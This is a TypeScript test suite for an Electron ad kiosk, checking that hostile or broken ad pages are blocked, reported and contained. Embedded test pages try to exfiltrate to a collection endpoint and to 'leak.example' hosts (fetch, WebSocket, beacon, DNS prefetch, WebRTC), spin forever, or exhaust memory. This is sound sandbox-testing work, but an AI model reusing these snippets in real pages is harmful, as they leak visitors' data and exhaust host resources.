import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { DemoService } from '../main/demo-service/demo-service';
import type { Play } from '../shared/play';
import { expect } from './expect';
import { type Kiosk, speedUpPageTimers } from './kiosk';
import { folder, launch, service, shareWorld, test } from './kiosk-test';
import { guestCount } from './pages-and-processes';
import {
  BLUE,
  BRIEF,
  errorCodes,
  expectMorePlays,
  expectOnScreen,
  GREEN,
  imageAd,
  isColour,
  mediaProblems,
  pageAd,
  pageOf,
  RED,
  serveColours,
  servePages,
  VIOLET,
} from './two-creatives';

const playsOf = async (kiosk: Kiosk, ad: string): Promise<Play[]> =>
  (await kiosk.plays()).filter(({ adId, outcome }) => adId === ad && outcome !== 'reserved');

/** Waits until this page was reported, and its ad has been left out of the loop; it may never have been shown. */
async function expectNeverShown(kiosk: Kiosk, service: DemoService, ad: string): Promise<void> {
  await expect.poll(() => errorCodes(service, ad)).not.toEqual([]);
  await expectMorePlays(kiosk, 2);
  expect((await kiosk.plays()).filter(({ adId, shownAt }) => adId === ad && shownAt !== null)).toEqual([]);
  // No process of these pages is left, also not that of the endless loop.
  await expect.poll(() => guestCount(kiosk)).toBe(0);
  const tabs = () =>
    kiosk.app.evaluate(({ app }) => app.getAppMetrics().filter(({ type }) => type === 'Tab').length);
  await expect.poll(tabs).toBe(2);
}

/** Starts a kiosk that plays a red picture, which tests put their pages beside. */
function startWithPicture(): Promise<Kiosk> {
  serveColours(service, { red: RED });
  service.setAds([imageAd('red')]);
  return launch();
}

/** A page must draw within ten seconds; timers run five times as fast. */
const HURRY = 5;

test.describe('on one kiosk', () => {
  let kiosk: Kiosk;

  shareWorld(async () => {
    kiosk = await startWithPicture();
    await speedUpPageTimers(kiosk.screen, HURRY);
    await expectOnScreen(kiosk, RED);
  });

  for (const [name, page] of [
    ['never stops', pageOf(GREEN, '<script>for (;;);</script>')],
    ['draws nothing', '<!doctype html><html><body></body></html>'],
    [
      'says that it has drawn',
      `<!doctype html><html><body><script>
    requestAnimationFrame = (run) => setTimeout(run); Promise.prototype.then = () => Promise.resolve(true);
  </script></body></html>`,
    ],
  ] as const) {
    test(`a page that ${name} never reaches the screen, and is reported`, async () => {
      const ad = name.replaceAll(' ', '-');
      servePages(service, { [ad]: page });
      service.setAds([imageAd('red'), pageAd(ad)]);
      await expectNeverShown(kiosk, service, ad);
    });
  }
});

test.describe('on another kiosk', () => {
  let kiosk: Kiosk;

  shareWorld(async () => {
    kiosk = await startWithPicture();
  });

  test('a hostile page reaches nothing, changes nothing, and ends after its time', async () => {
    const attempts = `<img src="${service.origin}/collect/escaped-picture"><script>
    const out = '${service.origin}/collect/escaped';
    try { fetch(out); } catch {}
    try { new WebSocket(out.replace('http', 'ws')); } catch {}
    try { navigator.sendBeacon(out); } catch {}
    try { localStorage.mine = 1; } catch {}
    try { document.cookie = 'mine=1'; } catch {}
    try { open(out); } catch {}
    try { top.location = out; } catch {}
    try { location = out; } catch {}
    try { alert('read me'); } catch {}
    try { document.documentElement.requestFullscreen(); } catch {}
    try { navigator.geolocation.getCurrentPosition(() => fetch(out)); } catch {}
    try { new AudioContext().createOscillator().start(); } catch {}
    const frame = document.createElement('iframe'); frame.src = out; document.body.append(frame);
    const script = document.createElement('script'); script.src = out; document.body.append(script);
    // It has tried everything.
    document.documentElement.style.background = document.body.style.background = 'rgb(${VIOLET.join(',')})';
  </script>`;
    servePages(service, { hostile: pageOf(GREEN, attempts) });
    service.setAds([imageAd('red', BRIEF), pageAd('hostile')]);
    await expectOnScreen(kiosk, RED, VIOLET);
    await expectMorePlays(kiosk, 4);
    expect((await playsOf(kiosk, 'hostile')).map(({ outcome }) => outcome)).not.toContain('failed');
    const escaped = () => service.requests().filter(({ path }) => path.includes('escaped'));
    expect(escaped()).toEqual([]);
    await fetch(`${service.origin}/collect/escaped`);
    expect(escaped(), 'one that comes out is seen').toHaveLength(1);
  });

  test('a page can use storage and cookies, and finds none of an earlier showing', async () => {
    const counts = `<script>
      const shown = Number(localStorage.shown ?? 0) + 1;
      localStorage.shown = shown;
      const cookies = document.cookie;
      document.cookie = 'seen=1';
      if (shown > 1 || cookies !== '' || document.cookie !== 'seen=1') document.documentElement.style.background = 'black';
    </script>`;
    servePages(service, { counts: pageOf(GREEN, counts) });
    service.setAds([imageAd('red', BRIEF), pageAd('counts')]);
    for (const _ of [1, 2, 3]) {
      await expectOnScreen(kiosk, RED);
      await expectOnScreen(kiosk, GREEN);
    }
  });

  test('a page that fills the memory of main is ended before main has taken a gigabyte, and the loop goes on', async () => {
    // Chromium keeps Blobs in its browser process, which is main's; the page itself stays small.
    const fills = `<script>const bytes = new Uint8Array(16 << 20), kept = [];
      setInterval(async () => {
        const blob = new Blob([bytes]);
        await blob.slice(0, 1).arrayBuffer();
        kept.push(blob);
      }, 10);
    </script>`;
    const mainMb = () => kiosk.app.evaluate(() => Math.round(process.memoryUsage.rss() / 2 ** 20));
    const [before, from] = [await mainMb(), kiosk.log().length];
    let most = before;
    servePages(service, { fills: pageOf(GREEN, fills) });
    service.setAds([imageAd('red', BRIEF), pageAd('fills', 60)]);
    const isEnded = async () => {
      most = Math.max(most, await mainMb());
      if (most > before + 1_024)
        throw new Error(`main takes ${most} MB; before the page it took ${before} MB`);
      return /a guest took too much memory; it was ended \{"kind":"page"/.test(kiosk.log().slice(from));
    };
    await expect.poll(isEnded, { intervals: [100], timeout: 60_000 }).toBe(true);
    await expect.poll(mainMb).toBeLessThan(before + 150);
    await expectOnScreen(kiosk, RED);
    expect(kiosk.log().slice(from)).not.toContain('a creative did harm');
  });

  test('a page without a background lies on white, as in a browser', async () => {
    servePages(service, { bare: '<!doctype html><html><body><h1>black words</h1></body></html>' });
    service.setAds([imageAd('red', BRIEF), pageAd('bare')]);
    await expectOnScreen(kiosk, RED, [255, 255, 255]);
  });

  test('a page that is larger than the screen has no scroll bars, because nobody can scroll it', async () => {
    const large = '<div style="width:120vw;height:120vh"></div>';
    servePages(service, { large: pageOf(BLUE, large) });
    service.setAds([imageAd('red', BRIEF), pageAd('large')]);
    await expectOnScreen(kiosk, BLUE);
    const edges = [
      { across: 0.997, down: 0.5 },
      { across: 0.5, down: 0.995 },
    ];
    for (const edge of edges)
      await expect.poll(async () => isColour(BLUE, await kiosk.colour(edge))).toBe(true);
  });

  test('a page whose load has been timed begins to run shortly before its slot, so that shoppers see its story', async () => {
    const end = `html{background:rgb(${GREEN});animation:end 5s step-end forwards}@keyframes end{to{background:rgb(${VIOLET})}}`;
    servePages(service, { story: `<!doctype html><html><head><style>${end}</style></head></html>` });
    service.setAds([imageAd('red', 8), pageAd('story')]);
    await expect.poll(async () => (await playsOf(kiosk, 'story')).length).toBeGreaterThan(0);
    await expectOnScreen(kiosk, RED);
    await expectOnScreen(kiosk, GREEN);
  });

  for (const [name, end, colour] of [
    ['dies', 'crash', GREEN],
    ['closes itself', 'close', BLUE],
  ] as const) {
    test(`a page that ${name} while it shows gives way to the brand card, and the loop goes on`, async () => {
      servePages(service, { [end]: pageOf(colour) });
      service.setAds([imageAd('red'), pageAd(end, 20)]);
      await expectOnScreen(kiosk, colour);
      // The display shows the page a moment before the kiosk knows; if it ended before that, it would not count
      // as shown (rule 8).
      await expect.poll(async () => (await kiosk.status()).now?.adId).toBe(end);
      await kiosk.app.evaluate(({ webContents }, how) => {
        for (const one of webContents.getAllWebContents()) {
          if (one.getType() !== 'webview') continue;
          if (how === 'crash') one.forcefullyCrashRenderer();
          else one.executeJavaScript('window.close()').catch(() => {});
        }
      }, end);
      const endings = async () => (await playsOf(kiosk, end)).map(({ endReason }) => endReason);
      await expect.poll(endings).toContain('error');
      // The play is in the books a moment before the brand card is drawn; until then the display may still have the page.
      const isCovered = async () => {
        const covered = await kiosk.colour();
        return Math.max(...covered) > 10 && !isColour(colour, covered);
      };
      await expect.poll(isCovered).toBe(true);
      const seen = await kiosk.colour();
      expect(Math.max(...seen), `never black: ${seen}`).toBeGreaterThan(10);
      await expectOnScreen(kiosk, RED);
    });
  }

  test('a log-in page instead of a page, and a truncated page, are detected before they are shown', async () => {
    servePages(service, {
      login: pageOf(GREEN, '<form action="/login"><input name="room"></form>'),
      cut: pageOf(BLUE).slice(0, -9),
    });
    service.setAds([imageAd('red'), pageAd('login'), pageAd('cut')]);
    await mediaProblems(kiosk).toMatch(/(?=[\s\S]*login\.html.*not-media)(?=[\s\S]*cut\.html.*truncated)/);
    await expectOnScreen(kiosk, RED);
    expect([...(await playsOf(kiosk, 'login')), ...(await playsOf(kiosk, 'cut'))]).toEqual([]);
  });
});

test('a page has no network, and no host name is looked up for it', async () => {
  serveColours(service, { red: RED });
  const hints = `<link rel="dns-prefetch" href="//hint.leak.example"><link rel="preconnect" href="http://connect.leak.example">
  <a href="http://anchor.leak.example/">.</a><script>
    let told = 0;
    setInterval(() => {
      told += 1;
      if (told === 3) document.documentElement.style.background = document.body.style.background = 'rgb(${VIOLET.join(',')})';
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'icon', 'stylesheet']) {
        const link = document.createElement('link');
        link.rel = rel;
        link.href = 'http://secret-' + told + '-' + rel + '.leak.example/x';
        document.head.append(link);
      }
      try { fetch('http://fetch-' + told + '.leak.example/').catch(() => {}); } catch {}
      try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun-' + told + '.leak.example' }] }).createDataChannel('x'); } catch {}
    }, 200);
  </script>`;
  servePages(service, { green: pageOf(GREEN, hints) });
  service.setAds([imageAd('red'), pageAd('green')]);
  const netLog = join(folder, 'net-log.json');
  const kiosk = await launch(undefined, { args: [`--log-net-log=${netLog}`] });
  // It turns violet once its script has tried each way three times.
  await expectOnScreen(kiosk, VIOLET, RED);
  await expectOnScreen(kiosk, VIOLET, RED);
  await kiosk.terminate();
  const log = readFileSync(netLog, 'utf8');
  // The log's event type for a look-up by Chromium itself.
  const events = Number(/"HOST_RESOLVER_MANAGER_REQUEST":(\d+)/.exec(log)?.[1]);
  expect(events).toBeGreaterThan(0);
  const lookedUp = log
    .split('\n')
    .filter((line) => line.includes(`"type":${events}`) || line.includes('HOST_RESOLVER_MANAGER_JOB'))
    .flatMap((line) => /"host":"([^"]*)"/.exec(line)?.[1] ?? []);
  expect(lookedUp.filter((host) => host.includes('leak.example'))).toEqual([]);
  // Chromium writes so of each name that the kiosk makes unknown to it, without asking for it.
  expect(lookedUp, 'the log has the attempts').toContain('http://~notfound');
});
